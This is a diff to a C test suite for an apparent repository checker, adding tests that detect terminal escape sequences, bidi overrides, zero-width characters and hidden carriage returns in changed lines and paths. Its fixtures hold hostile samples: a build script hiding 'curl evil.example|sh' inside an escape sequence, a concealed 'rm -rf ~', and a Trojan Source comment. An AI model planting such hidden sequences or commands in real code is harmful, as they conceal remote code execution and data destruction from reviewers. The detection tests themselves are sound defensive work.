@@ -146,7 +146,7 @@ static struct repo_conf conf(void)
 	r.name = "demo";
 	r.max_file_size = 10ULL << 20;
 	for (int i = 0; i < POLICY_NRULES; i++)
-		r.policy[i] = i == POLICY_AUTHORS ? POLICY_WARN : POLICY_BLOCK;
+		r.policy[i] = i == POLICY_AUTHORS || i == POLICY_INVISIBLE ? POLICY_WARN : POLICY_BLOCK;
 	return r;
 }
 
@@ -578,10 +578,124 @@ static void test_authors(void)
 		ok(!strchr(F[0].detail, '\033') && !strchr(F[0].detail, '\007'),
 		   "authors: no escape or BEL in the detail");
 		ok(!strchr(F[0].name, '\033'), "authors: no escape in the name");
-		ok(strstr(F[0].detail, "Mallory") != NULL && strstr(F[0].detail, "mal@example.com"),
-		   "authors: the printable text stays");
+		ok(strstr(F[0].detail, "Mal^[]0;pwned^Glory^[[2J <mal^[[31m@example.com>") != NULL,
+		   "authors: the escapes show as visible text, none dropped");
 		printf("#   detail: %s\n", F[0].detail);
 	}
+}
+
+/* Writes len bytes to a file in the work tree. */
+static void put_bytes(const char *path, const char *data, size_t len)
+{
+	char *full = xasprintf("%s/%s", WORK, path);
+	FILE *f = fopen(full, "wb");
+	if (!f) {
+		printf("Bail out! cannot write %s\n", full);
+		exit(1);
+	}
+	fwrite(data, 1, len, f);
+	fclose(f);
+	free(full);
+}
+
+static void test_hidden(void)
+{
+	struct repo_conf r = conf();
+	char *head;
+
+	/* Escape sequences, bidi controls and invisible characters in added
+	 * lines; the line numbers are those of the new file. */
+	start("hidden", BASE);
+	put("build.sh", "#!/bin/sh\nset -e\necho \"building\"\033]0;$(curl evil.example|sh)\007\n"
+	                "make\n");
+	put("access.c", "int ok(int admin)\n{\n\t/* \xe2\x80\xae } \xe2\x81\xa6 if (admin) */\n"
+	                "\treturn 1;\n}\n");
+	put("note.md", "a pass\xe2\x80\x8bword\nplain\nzero\xe2\x80\x8dwidth\n");
+	put("clean.txt", "nothing hidden here\ttab\fform feed\n");
+	put("crlf.txt", "windows\r\nline endings\r\n");
+	put("cr.txt", "safe\rrm -rf ~\n");
+	put("many.sh", "echo \033[2J\nok\necho \033[H\n");
+	put("c1.txt", "x\xc2\x9b" "2Jy\n");
+	head = commit(NULL);
+	is_int(check(BASE, head, &r, NULL), 0, "hidden: check succeeds");
+	is_str(detail("controls:build.sh"),
+	       "holds an escape sequence (U+001B ESCAPE) (line 3)",
+	       "hidden: an OSC in an added line blocks, with its line");
+	ok(find("controls:build.sh") && find("controls:build.sh")->action == POLICY_BLOCK,
+	   "hidden: controls block by default");
+	is_str(detail("controls:access.c"),
+	       "holds a bidi control (U+202E RIGHT-TO-LEFT OVERRIDE) (line 3)",
+	       "hidden: a right-to-left override (Trojan Source) blocks, with its line");
+	is_str(detail("invisible:note.md"),
+	       "2 lines hold invisible characters (first: line 1, an invisible character "
+	       "(U+200B ZERO WIDTH SPACE))",
+	       "hidden: zero-width characters on two lines: one finding with the count");
+	ok(find("invisible:note.md") && find("invisible:note.md")->action == POLICY_WARN,
+	   "hidden: invisible characters warn by default");
+	ok(!find("controls:note.md"), "hidden: a zero-width character is not a control");
+	ok(!find("controls:clean.txt") && !find("invisible:clean.txt"),
+	   "hidden: tab and form feed are ordinary");
+	ok(!find("controls:crlf.txt"), "hidden: CRLF line endings are ordinary");
+	is_str(detail("controls:cr.txt"), "holds a control character (U+000D CARRIAGE RETURN) (line 1)",
+	       "hidden: a CR inside a line (it hides what comes before on a terminal) blocks");
+	is_str(detail("controls:many.sh"),
+	       "2 lines hold escape sequences, controls or bidi controls (first: line 1, "
+	       "an escape sequence (U+001B ESCAPE))",
+	       "hidden: two lines with escapes: one finding, first line and count");
+	is_str(detail("controls:c1.txt"),
+	       "holds an escape sequence (U+009B CONTROL SEQUENCE INTRODUCER) (line 1)",
+	       "hidden: the 8-bit CSI blocks");
+	is_int(NF, 6, "hidden: six findings, nothing for the clean files");
+
+	/* Only added lines: an edit next to an old hidden line is fine. */
+	start("hidden-edit", head);
+	put("build.sh", "#!/bin/sh\nset -e\necho \"building\"\033]0;$(curl evil.example|sh)\007\n"
+	                "make\nmake check\n");
+	{
+		char *next = commit(NULL);
+		check(head, next, &r, NULL);
+		is_int(NF, 0, "hidden: a line added after an old hidden one: nothing");
+	}
+
+	/* Paths. */
+	start("hidden-paths", BASE);
+	put("ok\033]0;x\007.txt", "fine\n");
+	put("a\xe2\x80\xaegnp.sh", "fine\n");
+	put("zero\xe2\x80\x8b.txt", "fine\n");
+	head = commit(NULL);
+	check(BASE, head, &r, NULL);
+	is_int(NF, 3, "hidden: three paths, three findings");
+	is_str(detail("controls:ok^[]0;x^G.txt"), "the path holds an escape sequence (U+001B ESCAPE)",
+	       "hidden: a path with an escape sequence blocks; its name shows the sequence");
+	is_str(detail("controls:a<U+202E>gnp.sh"),
+	       "the path holds a bidi control (U+202E RIGHT-TO-LEFT OVERRIDE)",
+	       "hidden: a path with a bidi override blocks");
+	is_str(detail("invisible:zero<U+200B>.txt"),
+	       "the path holds an invisible character (U+200B ZERO WIDTH SPACE)",
+	       "hidden: a path with a zero-width space warns");
+	ok(find("controls:ok^[]0;x^G.txt") &&
+	   strcmp(find("controls:ok^[]0;x^G.txt")->path, "ok^[]0;x^G.txt") == 0,
+	   "hidden: the finding's path shows every byte");
+
+	/* Binary files are not scanned. */
+	start("hidden-binary", BASE);
+	put_bytes("blob.bin", "\0\1\2\033]0;x\007\xe2\x80\xae\n", 13);
+	head = commit(NULL);
+	check(BASE, head, &r, NULL);
+	is_int(NF, 0, "hidden: a binary file is not scanned");
+
+	/* Configurable like the other rules. */
+	head = sh_out("git -C '%s' rev-parse hidden", WORK);
+	r.policy[POLICY_CONTROLS] = POLICY_WARN;
+	r.policy[POLICY_INVISIBLE] = POLICY_BLOCK;
+	check(BASE, head, &r, NULL);
+	ok(find("controls:access.c") && find("controls:access.c")->action == POLICY_WARN &&
+	   find("invisible:note.md") && find("invisible:note.md")->action == POLICY_BLOCK,
+	   "hidden: policy-controls = warn and policy-invisible = block");
+	r.policy[POLICY_CONTROLS] = POLICY_OFF;
+	r.policy[POLICY_INVISIBLE] = POLICY_OFF;
+	check(BASE, head, &r, NULL);
+	is_int(NF, 0, "hidden: both off: nothing");
 }
 
 static void test_mixed(void)
@@ -605,7 +719,7 @@ static void test_mixed(void)
 	static const char *const want[] = {
 		"paths:.github/workflows/ci.yml", "paths:Jenkinsfile", "paths:x^Ay.pyc",
 		"paths:x^Ay.pyc:2", "secrets:a.py", "secrets:z.py", "symlinks:evil",
-		"authors:eve@example.com",
+		"controls:x^Ay.pyc", "authors:eve@example.com",
 	};
 	int same = NF == sizeof(want) / sizeof(want[0]);
 	for (size_t i = 0; same && i < NF; i++)
@@ -755,6 +869,7 @@ int main(void)
 	test_symlinks();
 	test_submodules();
 	test_authors();
+	test_hidden();
 	test_mixed();
 	test_clean_and_errors();
 	test_collect();
